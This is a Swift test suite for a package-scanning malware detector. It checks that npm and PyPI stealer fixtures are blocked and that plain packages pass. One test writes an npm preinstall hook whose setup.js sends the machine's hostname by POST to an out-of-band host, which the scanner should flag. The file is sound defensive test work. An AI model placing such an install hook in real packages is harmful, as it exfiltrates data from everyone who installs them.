import Classifier
import Foundation
import LockgateCore
import LockgateKit
import LockgateTestSupport
import Policy
import Testing

/// `scan` scores archives and package directories like `audit` scores locked packages, with the same thresholds.
@Suite struct DetectorScanTests {
    /// A folder holding an npm stealer and a plain npm package as .tgz, a PyPI stealer sdist, and a plain PyPI
    /// package as an unpacked directory.
    static func inputs() throws -> TemporaryDirectory {
        let directory = try TemporaryDirectory()
        try directory.write(
            "npm-stealer.tgz",
            data: try DetectorFixtures.archive(.npmStealer, name: "envpost", version: "1.0.0", variant: 40))
        try directory.write(
            "npm-plain.tgz",
            data: try DetectorFixtures.archive(.npmPlain, name: "plainlib", version: "1.0.0", variant: 41))
        try directory.write(
            "pystealer-0.1.0.tar.gz",
            data: try DetectorFixtures.archive(.pypiStealer, name: "pystealer", version: "0.1.0", variant: 42))
        let plain = DetectorFixtures.files(.pypiPlain, name: "pyplain", version: "0.2.0", variant: 43)
        for (path, text) in plain { try directory.write("pyplain/\(path)", text) }
        try directory.write("pyplain/PKG-INFO", "Metadata-Version: 2.1\nName: pyplain\nVersion: 0.2.0\n")
        return directory
    }

    static let all = ["npm-stealer.tgz", "npm-plain.tgz", "pystealer-0.1.0.tar.gz", "pyplain"]

    static func scan(_ directory: TemporaryDirectory, model: BehaviourClassifier?, policy: String? = nil) throws
        -> ScanReport
    {
        let (resolved, path) = try DetectorHarness.policy(policy, in: directory)
        let options = AuditOptions(
            paths: all, workingDirectory: directory.path, policy: resolved, policyPath: path,
            today: DetectorHarness.today)
        return Scanner(classifier: model).scan(all, ecosystem: nil, options: options)
    }

    @Test func stealersAreBlockedAndPlainPackagesPass() throws {
        let directory = try Self.inputs()
        // Thresholds of the test's own model's scale, for every ecosystem (the default policy carries the bundled
        // model's).
        let report = try Self.scan(
            directory, model: try DetectorModels.primary.get(),
            policy: "version: 1\nthresholds: {block: 0.9, warn: 0.5}\n")
        #expect(report.problems.isEmpty)
        let byInput = Dictionary(uniqueKeysWithValues: report.packages.compactMap { package in
            package.input.map { ($0, package) }
        })
        for input in ["npm-stealer.tgz", "pystealer-0.1.0.tar.gz"] {
            let package = try #require(byInput[input])
            try #require((package.score ?? 0) >= 0.9, "\(input): the test model should score it above 0.9")
            #expect(package.verdict == .block, "\(input)")
            let behaviours = package.findings.filter { $0.rule.hasPrefix("behaviour_") }
            #expect(!behaviours.isEmpty)
            #expect(behaviours.flatMap(\.evidence).allSatisfy {
                $0.path.hasPrefix("\(input)!/") && ($0.line ?? 0) >= 1
            })
        }
        for input in ["npm-plain.tgz", "pyplain"] {
            let package = try #require(byInput[input])
            #expect(package.verdict == .pass, "\(input): \(package.findings)")
            #expect(package.score != nil)
        }
        #expect(byInput["pyplain"]?.ecosystem == .pypi)
        #expect(report.exitCode == .blocked)
    }

    /// Scans folders of `directory` under a policy whose thresholds no score reaches, so only rules can block.
    static func scanWithRulesOnly(_ inputs: [String], ecosystem: Ecosystem, in directory: TemporaryDirectory) throws
        -> ScanReport
    {
        let (policy, path) = try DetectorHarness.policy(
            "version: 1\nthresholds: {block: 0.9999, warn: 0.9998}\n", in: directory)
        let options = AuditOptions(
            paths: inputs, workingDirectory: directory.path, policy: policy, policyPath: path,
            today: DetectorHarness.today)
        let scanner = Scanner(classifier: try DetectorModels.primary.get())
        return scanner.scan(inputs, ecosystem: ecosystem, options: options)
    }

    @Test func nameObfuscatedInstallCodeIsAnInstallTimeThreat() throws {
        let directory = try TemporaryDirectory()
        try directory.write("obf-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: obf\nVersion: 1.0\n")
        try directory.write(
            "obf-1.0/setup.py",
            "from setuptools import setup\nIlIlIlIlIl = 'a'\nlIlIIlIlll = IlIlIlIlIl * 2\n"
                + "IIlIIlIlIl = lIlIIlIlll + IlIlIlIlIl\nsetup(name='obf', version='1.0')\n")
        try directory.write("obf-1.0/obf/__init__.py", "IlIlIlIlIl = 1\nlIlIIlIlll = 2\nIIlIIlIlIl = 3\n")
        try directory.write("plain-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: plain\nVersion: 1.0\n")
        try directory.write("plain-1.0/setup.py", "from setuptools import setup\nsetup(name='plain', version='1.0')\n")
        try directory.write("plain-1.0/plain/__init__.py", "IlIlIlIlIl = 1\nlIlIIlIlll = 2\nIIlIIlIlIl = 3\n")
        let report = try Self.scanWithRulesOnly(["obf-1.0", "plain-1.0"], ecosystem: .pypi, in: directory)
        let obfuscated = try #require(report.packages.first { $0.input == "obf-1.0" })
        let finding = try #require(obfuscated.findings.first { $0.rule == "install_time_threat" })
        #expect(obfuscated.verdict == .block)
        #expect(finding.evidence.first?.path == "obf-1.0/setup.py" && finding.evidence.first?.line == 2)
        // The same names in code that runs at load are the model's to judge.
        let plain = try #require(report.packages.first { $0.input == "plain-1.0" })
        #expect(!plain.findings.contains { $0.rule == "install_time_threat" })
    }

    @Test func anInstallTimeThreatBlocksWhateverTheScore() throws {
        let directory = try TemporaryDirectory()
        try directory.write(
            "hooked/package.json",
            #"{"name": "hooked", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}"#)
        try directory.write(
            "hooked/setup.js",
            "const os = require('os');\nfetch('https://abc.oast.fun/u', {method: 'POST', body: os.hostname()});\n")
        try directory.write("hooked/index.js", "module.exports = (a, b) => a + b;\n")
        try directory.write(
            "plain/package.json", #"{"name": "plain", "version": "1.0.0", "scripts": {"test": "node t.js"}}"#)
        try directory.write("plain/index.js", "module.exports = 'https://abc.oast.fun/u';\n")
        let report = try Self.scanWithRulesOnly(["hooked", "plain"], ecosystem: .npm, in: directory)
        let hooked = try #require(report.packages.first { $0.input == "hooked" })
        let finding = try #require(hooked.findings.first { $0.rule == "install_time_threat" })
        #expect(hooked.verdict == .block)
        #expect(finding.severity == .block)
        #expect(finding.message.contains("out-of-band"), "\(finding.message)")
        #expect(finding.evidence.first?.path == "hooked/setup.js" && finding.evidence.first?.line == 2)
        // The same URL outside the install step is the model's to judge.
        let plain = try #require(report.packages.first { $0.input == "plain" })
        #expect(!plain.findings.contains { $0.rule == "install_time_threat" })
        #expect(plain.verdict == .pass)
        // A policy can lower the rule like any other.
        let (lowered, loweredPath) = try DetectorHarness.policy(
            "version: 1\nthresholds: {block: 0.9999, warn: 0.9998}\nrules: {install_time_threat: warn}\n",
            in: directory)
        let warned = Scanner(classifier: try DetectorModels.primary.get()).scan(
            ["hooked"], ecosystem: .npm,
            options: AuditOptions(
                paths: ["hooked"], workingDirectory: directory.path, policy: lowered, policyPath: loweredPath,
                today: DetectorHarness.today))
        #expect(warned.packages.first?.verdict == .warn)
    }

    @Test func directoryEvidenceIsRelativeToTheDirectory() throws {
        let directory = try TemporaryDirectory()
        let files = DetectorFixtures.files(.npmStealer, name: "envpost", version: "1.0.0", variant: 44)
        for (path, text) in files { try directory.write("envpost/\(path)", text) }
        let options = AuditOptions(paths: ["envpost"], workingDirectory: directory.path, today: DetectorHarness.today)
        let scanner = Scanner(classifier: try DetectorModels.primary.get())
        let report = scanner.scan(["envpost"], ecosystem: nil, options: options)
        let package = try #require(report.packages.first)
        try #require((package.score ?? 0) >= 0.9)
        let evidence = package.findings.filter { $0.rule.hasPrefix("behaviour_") }.flatMap(\.evidence)
        #expect(!evidence.isEmpty)
        for place in evidence {
            #expect(place.path.hasPrefix("envpost/"), "\(place.path)")
            let text = files[String(place.path.dropFirst("envpost/".count))]
            #expect(text != nil, "\(place.path) is a file of the package")
        }
    }

    @Test func perEcosystemThresholdsApplyToScansToo() throws {
        let directory = try Self.inputs()
        let model = try DetectorModels.primary.get()
        let first = try Self.scan(directory, model: model)
        let npmScore = try #require(first.packages.first { $0.input == "npm-stealer.tgz" }?.score)
        try #require(npmScore < 0.999)
        // npm's block threshold above its stealer's score: it warns; the PyPI stealer still blocks.
        let report = try Self.scan(
            directory, model: model,
            policy: DetectorHarness.thresholds(block: 0.5, warn: 0.3, npm: ((npmScore + 1) / 2, 0.3)))
        #expect(report.packages.first { $0.input == "npm-stealer.tgz" }?.verdict == .warn)
        #expect(report.packages.first { $0.input == "pystealer-0.1.0.tar.gz" }?.verdict == .block)
    }

    @Test func aSourceFileOverTheAnalysisCapIsReportedNotPassedSilently() throws {
        let directory = try TemporaryDirectory()
        try directory.write("padded/package.json", #"{"name": "padded", "version": "1.0.0", "main": "index.js"}"#)
        try directory.write("padded/index.js", "module.exports = require('./bundle.js');\n")
        let line = "var filler = 'the quick brown fox jumps over the lazy dog';\n"
        try directory.write("padded/bundle.js", String(repeating: line, count: (8 << 20) / line.utf8.count + 10))
        let options = AuditOptions(paths: ["padded"], workingDirectory: directory.path, today: DetectorHarness.today)
        let report = Scanner(classifier: try DetectorModels.primary.get())
            .scan(["padded"], ecosystem: nil, options: options)
        let package = try #require(report.packages.first)
        let finding = try #require(package.findings.first { $0.rule == "analysis_incomplete" })
        #expect(finding.severity == .warn)
        #expect(finding.evidence.map(\.path) == ["padded/bundle.js"])
        #expect(finding.message.contains("bundle.js (8.0 MiB)"), "\(finding.message)")
        #expect(package.verdict >= .warn)

        try directory.write("padded/bundle.js", line)
        let small = Scanner(classifier: try DetectorModels.primary.get())
            .scan(["padded"], ecosystem: nil, options: options)
        #expect(small.packages.first?.findings.contains { $0.rule == "analysis_incomplete" } == false)
    }

    @Test func withoutAModelScannedPackagesWarnAsNotAnalysed() throws {
        let directory = try Self.inputs()
        let report = try Self.scan(directory, model: nil)
        #expect(report.packages.count == 4)
        #expect(report.packages.allSatisfy { $0.verdict == .warn && $0.score == nil })
        #expect(report.packages.allSatisfy { package in package.findings.contains { $0.rule == "not_analysed" } })
        #expect(Scanner(classifier: nil).modelVersion == nil)
    }
}
